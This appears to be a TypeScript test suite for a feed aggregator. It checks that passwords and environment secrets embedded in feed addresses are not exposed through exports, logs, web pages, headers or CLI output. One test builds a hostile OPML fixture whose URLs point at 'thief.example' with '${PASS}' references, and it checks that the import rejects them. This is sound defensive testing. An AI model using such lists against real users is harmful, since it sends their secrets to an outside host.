import { readFileSync, writeFileSync } from 'node:fs'
import { beforeEach, describe, expect, test } from 'vitest'
import type { FeedHost } from '../ingest/feed-host.ts'
import { item, openWorkplace, openWorkplaceWithHost, rss, service, sourcesYaml, type Workplace } from './workplace.ts'

const env = { PAID: 'k3y-öf-subscriber', PASS: 'p4ss-w0rd', PLACE: 's3cret-path' }
/** However an address spells them. */
const VALUES = [env.PAID, encodeURIComponent(env.PAID), 'f-subscriber', env.PASS, env.PLACE]
const expectNone = (text: string, where: string): void => {
  for (const value of VALUES) expect(text.includes(value), `${where} tells ${value}:\n${text}`).toBe(false)
}

let host: FeedHost
let place: Workplace
let sources: string
beforeEach(async () => {
  const opened = await openWorkplaceWithHost()
  ;({ host, place } = opened)
  place.write('polywire.yaml', service([host.host], 'stories: all\n'))
  sources = `sources:
  - { id: paid, name: Paid, url: "http://reader:\${PASS}@${host.host}/\${PLACE}/feed?u=\${PAID}", site: "http://${host.host}/?u=\${PAID}" }
  - { id: torn, name: Torn, url: "http://${host.host}/\${PLACE}/torn" }
  - { id: away, name: Away, url: "http://${host.host}/\${PLACE}/away" }
`
  place.write('sources.yaml', sources)
  const relative = '<item><guid>r</guid><link>read/1</link><title>A relative report of the marketplace</title></item>'
  const self = `<atom:link xmlns:atom="http://www.w3.org/2005/Atom" rel="self" href="http://${host.host}/${env.PLACE}/feed"/>`
  host.show(
    `/${env.PLACE}/feed?u=${encodeURIComponent(env.PAID)}`,
    rss([item('1'), relative], self).replace('https://desk.example/<', `http://${host.host}/${env.PLACE}/home<`),
  )
  host.show(`/${env.PLACE}/torn`, `No such key: ${env.PLACE}`, 'text/plain')
  host.behave(`/${env.PLACE}/away`, (response) => void response.writeHead(301, { location: `/${env.PLACE}/none` }).end())
  return opened.close
})

test('a password that stands in an address is left out of an export, unless asked for', async () => {
  const plain = openWorkplace()
  plain.write(
    'sources.yaml',
    sourcesYaml({
      paid: 'https://ann:hunter2@a.example/feed',
      keyed: 'https://hunter3@b.example/feed',
      free: 'https://c.example/f',
    }),
  )
  const { out, err } = await plain.run(['export-opml'])
  expect(out).toContain('xmlUrl="https://a.example/feed"')
  expect(out + err).not.toMatch(/hunter/)
  expect(err).toContain('2 addresses')
  expect((await plain.run(['export-opml', '--passwords'])).out).toContain('https://ann:hunter2@a.example/feed')
  await plain.clear()
})

describe('what an address has from the environment', () => {
  test('is told by no page, feed, list, log or header of a running service', async () => {
    const served = place.start(['serve'], { env: { ...env, POLYWIRE_LISTEN: '127.0.0.1:0', POLYWIRE_LOG_LEVEL: 'trace' } })
    const url = /http:\/\/127\.0\.0\.1:\d+/.exec(await served.line(/"event":"started"/))?.[0] ?? ''
    for (const id of ['paid', 'torn', 'away']) await served.line(new RegExp(`poll.*"source":"${id}"`))
    const articles = async () =>
      ((await (await fetch(`${url}/api/v1/articles`)).json()) as { readonly data: readonly { readonly story: string }[] }).data
    // What was polled is shown once it is grouped.
    await expect.poll(async () => (await articles()).length).toBe(2)
    const story = `/stories/${(await articles())[0]?.story}`
    for (const path of [
      ...['atom', 'rss', 'json'].flatMap((ending) => [`/feeds/all.${ending}?group=article`, `/feeds/health.${ending}`]),
      '/',
      story,
      '/sources',
      '/feeds',
      '/feeds.opml',
      '/about',
      '/rights',
      '/search?q=marketplace',
      '/metrics',
      '/readyz',
      ...['sources', 'articles', 'stories', 'status', 'feeds'].map((list) => `/api/v1/${list}`),
    ]) {
      const answer = await fetch(`${url}${path}`)
      expect({ path, status: answer.status }).toEqual({ path, status: 200 })
      expectNone((await answer.text()) + JSON.stringify([...answer.headers]), path)
    }
    served.child.kill('SIGTERM')
    const { out, err } = await served.ended
    expectNone(out + err, 'the log')
    expect(host.asked.map(({ headers }) => headers['user-agent']).join(' ')).not.toContain(env.PASS)
    expect(host.asked.some(({ headers }) => headers.authorization !== undefined)).toBe(true)
  })

  test('is told by no command', async () => {
    for (const args of [
      ['once'],
      ['once', '--all', '--json'],
      ['try', 'paid'],
      ['try', 'paid', '--json'],
      ['try', 'torn'],
      ['try', 'away'],
      ['explain', 'https://desk.example/1'],
      ['explain', 'https://desk.example/1', '--json'],
      ['check'],
      ['export-opml'],
    ]) {
      const { out, err, code } = await place.run(args, { env })
      expect({ args, code, silent: out + err === '' }).not.toMatchObject({ code: 2 })
      expect(out + err).not.toBe('')
      expectNone(out + err, args.join(' '))
    }
  })

  test('goes out and in again as it is written', async () => {
    const { out } = await place.run(['export-opml'], { env })
    expect(out).toContain(`xmlUrl="http://reader:\${PASS}@${host.host}/\${PLACE}/feed?u=\${PAID}"`)
    expect(out).toContain(`htmlUrl="http://${host.host}/?u=\${PAID}"`)
    writeFileSync(place.path('list.opml'), out)
    expect((await place.run(['import-opml', '--replace', place.path('list.opml')], { env })).out).toContain('3 already present')
    expect(readFileSync(`${place.config}/sources.yaml`, 'utf8')).toBe(sources)
    place.write('sources.yaml', 'sources: []\n')
    const list = place.path('list.opml')
    expect(await place.run(['import-opml', '--variables', list], { env: { PASS: 'x', PLACE: 'y' } })).toMatchObject({
      code: 2,
      err: expect.stringContaining('the environment variable PAID is not set'),
    })
    expect((await place.run(['import-opml', '--variables', list], { env })).out).toContain('3 sources added')
    expect((await place.run(['export-opml'], { env })).out).toBe(out)
  })

  test('is not asked for by a list of somebody else’s', async () => {
    const before = readFileSync(`${place.config}/sources.yaml`, 'utf8')
    const outline = (attributes: string): string => `<outline type="rss" ${attributes}/>`
    const list = [
      outline('text="A" xmlUrl="https://thief.example/?token=${PASS}"'),
      outline('text="${PASS}" xmlUrl="https://thief.example/title"'),
      outline('text="B" xmlUrl="https://thief.example/site" htmlUrl="https://thief.example/${PASS}"'),
      outline('text="C" xmlUrl="${PASS}"'),
    ]
    writeFileSync(place.path('list.opml'), `<opml version="2.0"><body>\n${list.join('\n')}\n</body></opml>`)
    const { code, err } = await place.run(['import-opml', place.path('list.opml')], { env })
    expect(code).toBe(0)
    for (const line of [2, 3, 4, 5])
      expect(err).toContain(
        `list.opml:${line}:1: left out: it refers to \${PASS} in the environment, which only your own lists may do`,
      )
    expect(readFileSync(`${place.config}/sources.yaml`, 'utf8')).toBe(before)
  })
})
